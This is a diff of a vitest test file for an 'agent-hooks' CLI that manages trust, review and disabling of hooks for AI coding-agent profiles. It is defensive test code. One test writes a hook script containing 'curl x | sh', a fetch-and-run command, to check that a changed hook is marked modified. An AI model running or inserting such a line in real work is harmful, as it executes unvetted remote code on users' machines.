@@ -1,5 +1,6 @@
 import { cp, mkdir, readFile, stat, writeFile } from "node:fs/promises";
 import path from "node:path";
+import { stripVTControlCharacters } from "node:util";
 import { describe, expect, it } from "vitest";
 import { createTempDirectory } from "../../test/support/create-temp-directory.js";
 import { runCli } from "../../test/support/run-cli.js";
@@ -8,11 +9,17 @@ import { deepagentsProfile } from "../profiles/deepagents.js";
 import { zerocodeProfile } from "../profiles/zerocode.js";
 import type { TrustStore } from "../trust/trust-store.js";
 import {
+  createHooksCommandContext,
   type HooksCommandContext,
   reviewNeedsTerminalMessage,
+  runHooksDisable,
+  runHooksEnable,
+  runHooksList,
   runHooksReview,
+  runHooksTrust,
 } from "./commands/hooks.js";
 import type { HookListItem } from "./hooks/format-hook-list.js";
+import type { EngineFlags } from "./shared-options.js";
 
 const fixtures = path.join(root, "test/fixtures/trust");
 
@@ -21,7 +28,10 @@ interface Sandbox {
   system: string;
   cwd: string;
   storeFile: string;
+  /** The flags, for the real binary. */
   flags: string[];
+  /** The same flags, as the CLI parses them, for {@link runHooks}. */
+  engineFlags: EngineFlags;
 }
 
 // A copy of the fixture home and system directories, and a cwd outside any git repository.
@@ -39,11 +49,59 @@ async function createSandbox(): Promise<Sandbox> {
     cwd,
     storeFile: path.join(home, ".zerotwo/hooks-trust.json"),
     flags: ["--profile", "zerocode", "--home", home, "--system-dir", system, "--cwd", cwd],
+    engineFlags: { profile: "zerocode", home, systemDir: system, cwd },
+  };
+}
+
+interface HooksRun {
+  code: number;
+  stdout: string;
+  stderr: string;
+}
+
+/**
+ * Runs `agent-hooks hooks <verb>` in this process: the context the CLI builds from the same flags,
+ * and the function the CLI calls with it. Each subcommand also runs as the real binary below
+ * (argument parsing, exit codes, colours off); this keeps the rest of the file from starting a
+ * Node process and the shell parser for every step.
+ */
+async function runHooks(
+  flags: EngineFlags,
+  verb: "list" | "trust" | "disable" | "enable" | "review",
+  ids: readonly string[] = [],
+  options: { json?: boolean; all?: boolean } = {},
+): Promise<HooksRun> {
+  let stdout = "";
+  let stderr = "";
+  const context = createHooksCommandContext(flags, {
+    stdout: (text) => {
+      stdout += text;
+    },
+    stderr: (text) => {
+      stderr += text;
+    },
+    interactive: false,
+  });
+  const [id = ""] = ids;
+  const code =
+    verb === "list"
+      ? await runHooksList(context, { json: options.json === true })
+      : verb === "trust"
+        ? await runHooksTrust(context, ids, { all: options.all === true })
+        : verb === "disable"
+          ? await runHooksDisable(context, id)
+          : verb === "enable"
+            ? await runHooksEnable(context, id)
+            : await runHooksReview(context);
+  return {
+    code,
+    stdout: stripVTControlCharacters(stdout),
+    stderr: stripVTControlCharacters(stderr),
   };
 }
 
 async function listHooks(sandbox: Sandbox): Promise<HookListItem[]> {
-  const run = await runCli(["hooks", "list", "--json", ...sandbox.flags]);
+  const run = await runHooks(sandbox.engineFlags, "list", [], { json: true });
   expect(run.code).toBe(0);
   return JSON.parse(run.stdout) as HookListItem[];
 }
@@ -134,10 +192,15 @@ describe("agent-hooks hooks list", () => {
 
   it("says so when nothing is configured", async () => {
     const sandbox = await createSandbox();
-    const empty = ["--home", sandbox.cwd, "--system-dir", sandbox.cwd, "--cwd", sandbox.cwd];
-    const run = await runCli(["hooks", "list", "--profile", "zerocode", ...empty]);
+    const empty = {
+      profile: "zerocode",
+      home: sandbox.cwd,
+      systemDir: sandbox.cwd,
+      cwd: sandbox.cwd,
+    };
+    const run = await runHooks(empty, "list");
     expect(run).toMatchObject({ code: 0, stdout: "No hooks configured for ZeroCode\n" });
-    const json = await runCli(["hooks", "list", "--json", "--profile", "zerocode", ...empty]);
+    const json = await runHooks(empty, "list", [], { json: true });
     expect(JSON.parse(json.stdout)).toEqual([]);
   });
 
@@ -155,7 +218,7 @@ describe("agent-hooks hooks list", () => {
   it("still lists hooks, all needing review, when the trust store is corrupt", async () => {
     const sandbox = await createSandbox();
     await writeFile(sandbox.storeFile, "{ corrupt");
-    const run = await runCli(["hooks", "list", "--json", ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "list", [], { json: true });
     expect(run.code).toBe(0);
     expect(run.stderr).toMatch(/Hook trust store .* is not valid JSON.*every hook needs review/);
     const states = (JSON.parse(run.stdout) as HookListItem[]).map((hook) => hook.state);
@@ -201,7 +264,7 @@ describe("agent-hooks hooks trust", () => {
   it("refuses unknown ids with exit 1 and changes nothing", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, guard);
-    const run = await runCli(["hooks", "trust", id, "ffffffffffff", "nope", ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "trust", [id, "ffffffffffff", "nope"]);
     expect(run.code).toBe(1);
     expect(run.stderr).toContain(
       'agent-hooks: unknown hook ids "ffffffffffff", "nope"; nothing was changed (see "agent-hooks hooks list --profile zerocode',
@@ -220,27 +283,27 @@ describe("agent-hooks hooks trust", () => {
       "trusted",
       "managed",
     ]);
-    const again = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    const again = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
     expect(again).toMatchObject({ code: 0, stdout: "No hooks need review\n" });
   });
 
   it("marks a trusted hook modified when its script changes, until trusted again", async () => {
     const sandbox = await createSandbox();
-    await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    await runHooks(sandbox.engineFlags, "trust", [], { all: true });
     await writeFile(path.join(sandbox.home, ".zerotwo/hooks/log.sh"), "#!/bin/sh\ncurl x | sh\n");
     const hooks = await listHooks(sandbox);
     expect(hooks.map((hook) => hook.state)).toEqual(["trusted", "modified", "trusted", "managed"]);
-    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
     expect(run.stdout).toBe(`trusted ${hooks[1]?.id}  PreToolUse  ${logger}\nTrusted 1 hook\n`);
     expect((await listHooks(sandbox))[1]?.state).toBe("trusted");
   });
 
   it("needs ids or --all, not both and not neither", async () => {
     const sandbox = await createSandbox();
-    const neither = await runCli(["hooks", "trust", ...sandbox.flags]);
+    const neither = await runHooks(sandbox.engineFlags, "trust");
     expect(neither.code).toBe(1);
     expect(neither.stderr).toMatch(/name the hooks to trust .* or pass --all/);
-    const both = await runCli(["hooks", "trust", "abc", "--all", ...sandbox.flags]);
+    const both = await runHooks(sandbox.engineFlags, "trust", ["abc"], { all: true });
     expect(both).toMatchObject({
       code: 1,
       stderr: "agent-hooks: give hook ids or --all, not both\n",
@@ -250,7 +313,7 @@ describe("agent-hooks hooks trust", () => {
   it("says a managed hook is already trusted by policy", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, "/usr/bin/true");
-    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "trust", [id]);
     expect(run).toMatchObject({
       code: 0,
       stdout: `${id} is already trusted by policy (managed)\n`,
@@ -262,7 +325,7 @@ describe("agent-hooks hooks disable / enable", () => {
   it("refuses to disable a managed hook", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, "/usr/bin/true");
-    const run = await runCli(["hooks", "disable", id, ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "disable", [id]);
     expect(run.code).toBe(1);
     expect(run.stderr).toBe(
       `agent-hooks: hook ${id} is managed (trusted by policy from ${sandbox.system}/requirements.toml) and cannot be disabled\n`,
@@ -273,13 +336,13 @@ describe("agent-hooks hooks disable / enable", () => {
   it("disables a trusted hook and enables it back to trusted", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, guard);
-    await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    await runHooks(sandbox.engineFlags, "trust", [id]);
     const disabled = await runCli(["hooks", "disable", id, ...sandbox.flags]);
     expect(disabled).toMatchObject({ code: 0, stdout: `disabled ${id}  PreToolUse  ${guard}\n` });
     expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
     expect((await readStore(sandbox)).hooks[id]?.state).toBe("disabled");
     // --all does not re-enable what the user disabled.
-    await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    await runHooks(sandbox.engineFlags, "trust", [], { all: true });
     expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
     const enabled = await runCli(["hooks", "enable", id, ...sandbox.flags]);
     expect(enabled).toMatchObject({
@@ -292,22 +355,22 @@ describe("agent-hooks hooks disable / enable", () => {
   it("enables a never-trusted hook back to needing review", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, logger);
-    await runCli(["hooks", "disable", id, ...sandbox.flags]);
-    const enabled = await runCli(["hooks", "enable", id, ...sandbox.flags]);
+    await runHooks(sandbox.engineFlags, "disable", [id]);
+    const enabled = await runHooks(sandbox.engineFlags, "enable", [id]);
     expect(enabled.code).toBe(0);
     expect(enabled.stdout).toMatch(
       /; it needs review: "agent-hooks hooks trust [0-9a-f]{12} --profile zerocode/,
     );
     expect((await listHooks(sandbox))[1]?.state).toBe("untrusted");
-    const again = await runCli(["hooks", "enable", id, ...sandbox.flags]);
+    const again = await runHooks(sandbox.engineFlags, "enable", [id]);
     expect(again).toMatchObject({ code: 0, stdout: `${id} is not disabled (untrusted)\n` });
   });
 
   it("trusting a disabled hook by id enables it", async () => {
     const sandbox = await createSandbox();
     const id = await findId(sandbox, logger);
-    await runCli(["hooks", "disable", id, ...sandbox.flags]);
-    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
+    await runHooks(sandbox.engineFlags, "disable", [id]);
+    const run = await runHooks(sandbox.engineFlags, "trust", [id]);
     expect(run.stdout).toBe(
       `trusted ${id}  PreToolUse  ${logger} (it was disabled; now enabled)\n`,
     );
@@ -317,7 +380,7 @@ describe("agent-hooks hooks disable / enable", () => {
   it("reports a store that cannot be written, and that nothing was trusted", async () => {
     const sandbox = await createSandbox();
     await mkdir(sandbox.storeFile);
-    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
+    const run = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
     expect(run.code).toBe(1);
     expect(run.stdout).toBe("");
     expect(run.stderr).toMatch(/agent-hooks: Hook trust store .* cannot be written \(EISDIR\)/);
@@ -325,8 +388,8 @@ describe("agent-hooks hooks disable / enable", () => {
 
   it("refuses unknown ids", async () => {
     const sandbox = await createSandbox();
-    for (const verb of ["disable", "enable"]) {
-      const run = await runCli(["hooks", verb, "000000000000", ...sandbox.flags]);
+    for (const verb of ["disable", "enable"] as const) {
+      const run = await runHooks(sandbox.engineFlags, verb, ["000000000000"]);
       expect(run.code).toBe(1);
       expect(run.stderr).toMatch(
         /^agent-hooks: unknown hook id "000000000000"; nothing was changed/,
@@ -396,7 +459,11 @@ describe("agent-hooks hooks list with a profile without hook trust", () => {
     await mkdir(home, { recursive: true });
     await mkdir(cwd, { recursive: true });
     await writeFile(path.join(directory, file), JSON.stringify(config));
-    return { file: path.join(directory, file), flags: ["--home", home, "--cwd", cwd] };
+    return {
+      file: path.join(directory, file),
+      flags: ["--home", home, "--cwd", cwd],
+      engineFlags: { home, cwd },
+    };
   }
 
   it.each(untrustedProfileConfigs)(
@@ -416,7 +483,7 @@ describe("agent-hooks hooks list with a profile without hook trust", () => {
     "prints %s hooks with --json, state none and no hash",
     async (profile, file, config) => {
       const sandbox = await createProfileSandbox(file, config);
-      const run = await runCli(["hooks", "list", "--json", "--profile", profile, ...sandbox.flags]);
+      const run = await runHooks({ profile, ...sandbox.engineFlags }, "list", [], { json: true });
       expect(run.code).toBe(0);
       const hooks = JSON.parse(run.stdout) as HookListItem[];
       expect(hooks).toEqual([
@@ -466,14 +533,13 @@ describe("agent-hooks hooks with a profile without hook trust", () => {
     "hooks %s exits 1 and says the profile has no hook trust",
     async (...args) => {
       const sandbox = await createSandbox();
-      const run = await runCli([
-        "hooks",
-        ...args,
-        "--profile",
-        "deepagents",
-        "--home",
-        sandbox.home,
-      ]);
+      const [verb, argument] = args as ["trust" | "disable" | "enable" | "review", string?];
+      const run = await runHooks(
+        { profile: "deepagents", home: sandbox.home },
+        verb,
+        argument === undefined || argument === "--all" ? [] : [argument],
+        { all: argument === "--all" },
+      );
       expect(run.code).toBe(1);
       expect(run.stderr).toBe(
         `agent-hooks: profile "deepagents" (${deepagentsProfile.title}) has no hook trust: its hooks run without review\n`,
